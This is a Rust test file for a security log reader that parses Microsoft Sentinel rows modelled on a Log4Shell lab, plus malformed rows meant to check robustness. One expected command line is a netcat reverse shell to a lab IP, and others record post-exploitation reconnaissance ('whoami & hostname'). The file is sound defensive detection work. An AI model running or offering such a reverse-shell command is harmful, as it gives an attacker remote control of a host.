//! Log Analytics (Microsoft Sentinel) table rows, in the shape of OTRF's
//! Log4Shell lab (`tests/data/log_analytics/README.md` says where the shape
//! comes from). Before this reader, the `Event` and `SecurityEvent` rows had
//! no time, the Sysmon rows no event fields and the `Syslog` rows' Sysmon
//! for Linux and auoms records were unread text. Expected values are the
//! fixture's own (written in it by hand), not reader output.
#![allow(clippy::unwrap_used, reason = "test code may unwrap")]

use kahu_event::{Event, Value};
use kahu_ingest::{Sink, Warning};
use std::path::Path;

#[derive(Default)]
struct Collect {
    events: Vec<Event>,
    warnings: Vec<Warning>,
}

impl Sink for Collect {
    fn event(&mut self, event: Event) -> bool {
        self.events.push(event);
        true
    }
    fn warning(&mut self, warning: Warning) {
        self.warnings.push(warning);
    }
}

fn s(ev: &Event, k: &str) -> Option<String> {
    ev.fields
        .get_exact(k)
        .and_then(Value::as_text)
        .map(|v| v.into_owned())
}

fn read(path: &Path) -> Collect {
    let mut c = Collect::default();
    kahu_ingest::read_path(path, &mut c).expect("fixture readable");
    c
}

#[test]
fn log4shell_lab_rows_get_time_host_channel_and_fields() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/log_analytics/log4shell_lab_shape.jsonl");
    let c = read(&path);
    assert_eq!(c.events.len(), 8, "one event per row");
    assert!(c.warnings.is_empty(), "{:#?}", c.warnings);
    let ev = &c.events;
    let t = |e: &Event| {
        e.timestamp
            .map(|t| t.format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string())
    };
    let ch = |e: &Event| e.channel.as_deref().map(str::to_string);
    let host = |e: &Event| e.host.as_deref().map(str::to_string);

    // 1: Event table, Windows Sysmon 1; its fields only in the EventData XML.
    assert_eq!(t(&ev[0]).as_deref(), Some("2021-12-11T20:36:54.817Z"));
    assert_eq!(host(&ev[0]).as_deref(), Some("WORKSTATION6.lab.example"));
    assert_eq!(
        ch(&ev[0]).as_deref(),
        Some("Microsoft-Windows-Sysmon/Operational")
    );
    assert_eq!(ev[0].event_id, Some(1));
    assert_eq!(ev[0].provider.as_deref(), Some("Microsoft-Windows-Sysmon"));
    assert_eq!(
        s(&ev[0], "Image").as_deref(),
        Some("C:\\Windows\\System32\\cmd.exe")
    );
    assert_eq!(
        s(&ev[0], "CommandLine").as_deref(),
        Some("cmd.exe /c whoami & hostname"),
        "XML entity decoded"
    );
    assert_eq!(
        s(&ev[0], "ParentImage").as_deref(),
        Some("C:\\Program Files\\Java\\jdk-11\\bin\\java.exe")
    );
    assert_eq!(s(&ev[0], "Channel"), ch(&ev[0]), "Sigma's Channel field");
    // 2: Event table, Sysmon 3.
    assert_eq!(t(&ev[1]).as_deref(), Some("2021-12-11T20:36:53.402Z"));
    assert_eq!(s(&ev[1], "DestinationPort").as_deref(), Some("1389"));
    assert_eq!(s(&ev[1], "DestinationIp").as_deref(), Some("192.168.2.6"));
    // 3: SecurityEvent 4688: typed columns kept, XML items added.
    assert_eq!(t(&ev[2]).as_deref(), Some("2021-12-11T20:36:54.820Z"));
    assert_eq!(ch(&ev[2]).as_deref(), Some("Security"));
    assert_eq!(ev[2].event_id, Some(4688));
    assert_eq!(
        s(&ev[2], "Provider_Name").as_deref(),
        Some("Microsoft-Windows-Security-Auditing")
    );
    assert_eq!(s(&ev[2], "NewProcessId").as_deref(), Some("0x12cc"));
    assert_eq!(
        s(&ev[2], "ParentProcessName").as_deref(),
        Some("C:\\Program Files\\Java\\jdk-11\\bin\\java.exe")
    );
    // 4–5: Syslog rows holding Sysmon for Linux events: the event's own
    // UtcTime, host and fields, Sigma's Linux categories.
    assert_eq!(t(&ev[3]).as_deref(), Some("2021-12-11T20:41:06.511Z"));
    assert_eq!(ch(&ev[3]).as_deref(), Some("Linux-Sysmon/Operational"));
    assert_eq!(ev[3].event_id, Some(3));
    assert_eq!(
        ev[3].logsource.category.as_deref(),
        Some("network_connection")
    );
    assert_eq!(ev[3].logsource.product.as_deref(), Some("linux"));
    assert_eq!(s(&ev[3], "DestinationPort").as_deref(), Some("1389"));
    assert_eq!(t(&ev[4]).as_deref(), Some("2021-12-11T20:41:07.203Z"));
    assert_eq!(
        ev[4].logsource.category.as_deref(),
        Some("process_creation")
    );
    assert_eq!(s(&ev[4], "Image").as_deref(), Some("/usr/bin/dash"));
    assert_eq!(
        s(&ev[4], "ParentImage").as_deref(),
        Some("/usr/lib/jvm/java-11-openjdk-amd64/bin/java")
    );
    assert_eq!(host(&ev[4]).as_deref(), Some("ubuntu5"));
    // The row's columns are kept beside the event's fields.
    assert_eq!(s(&ev[4], "Type").as_deref(), Some("Syslog"));
    // 6: auoms record: its own audit time (1639255267.205).
    assert_eq!(t(&ev[5]).as_deref(), Some("2021-12-11T20:41:07.205Z"));
    assert_eq!(ch(&ev[5]).as_deref(), Some("auoms"));
    assert_eq!(s(&ev[5], "Image").as_deref(), Some("/usr/bin/dash"));
    assert_eq!(
        s(&ev[5], "CommandLine").as_deref(),
        Some("/bin/sh -c nc 192.168.2.6 443 -e /bin/sh")
    );
    // 7: an ordinary message: syslog text with its program.
    assert_eq!(t(&ev[6]).as_deref(), Some("2021-12-11T20:45:01.000Z"));
    assert_eq!(ev[6].logsource.product.as_deref(), Some("linux"));
    assert!(matches!(ch(&ev[6]).as_deref(), Some("auth" | "syslog")));
    assert_eq!(s(&ev[6], "program").as_deref(), Some("CRON"));
    assert_eq!(
        s(&ev[6], "message").as_deref(),
        Some("pam_unix(cron:session): session opened for user root by (uid=0)")
    );
    // 8: another table: its name is the channel.
    assert_eq!(t(&ev[7]).as_deref(), Some("2021-12-11T20:42:00.000Z"));
    assert_eq!(ch(&ev[7]).as_deref(), Some("VMConnection"));
    assert_eq!(host(&ev[7]).as_deref(), Some("ubuntu5"));

    for e in ev {
        assert!(
            e.timestamp.is_some() && e.host.is_some() && e.channel.is_some(),
            "{e:?}"
        );
    }
}

/// Hostile rows: cut XML, a non-text table name, a huge Data name, no
/// message. Each is read (or kept) without a panic, and the rows that are
/// Log Analytics rows still get their `TimeGenerated`.
#[test]
fn hostile_log_analytics_rows() {
    let dir = std::env::temp_dir().join(format!("kahu-la-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let path = dir.join("rows.jsonl");
    let long = "A".repeat(100_000);
    let rows = [
        r#"{"TenantId":"t","TimeGenerated":"2021-12-11T20:00:00Z","Type":"Event","EventLog":"System","EventID":7036,"EventData":"<DataItem><EventData><Data Name=\"param1"}"#.to_string(),
        r#"{"TenantId":"t","TimeGenerated":"2021-12-11T20:00:01Z","Type":"Syslog","Computer":"h","ProcessName":"sysmon","SyslogMessage":"<Event><System><EventID>1"}"#.to_string(),
        r#"{"TenantId":"t","TimeGenerated":"2021-12-11T20:00:02Z","Type":"Syslog","Computer":"h"}"#.to_string(),
        format!(r#"{{"TenantId":"t","TimeGenerated":"2021-12-11T20:00:03Z","Type":"SecurityEvent","Channel":"Security","EventID":4688,"EventData":"<Data Name=\"{long}\">x</Data>"}}"#),
        r#"{"TenantId":"t","TimeGenerated":"2021-12-11T20:00:04Z","Type":7}"#.to_string(),
    ];
    std::fs::write(&path, rows.join("\n")).expect("write rows");
    let c = read(&path);
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(c.events.len(), 5);
    for (i, e) in c.events.iter().take(4).enumerate() {
        let want = format!("2021-12-11T20:00:0{i}Z");
        assert_eq!(
            e.timestamp
                .map(|t| t.format("%Y-%m-%dT%H:%M:%SZ").to_string()),
            Some(want)
        );
    }
    // The cut Sysmon XML stays searchable syslog text.
    assert_eq!(c.events[1].channel.as_deref(), Some("syslog"));
    assert!(s(&c.events[1], "message").is_some_and(|m| m.starts_with("<Event>")));
}
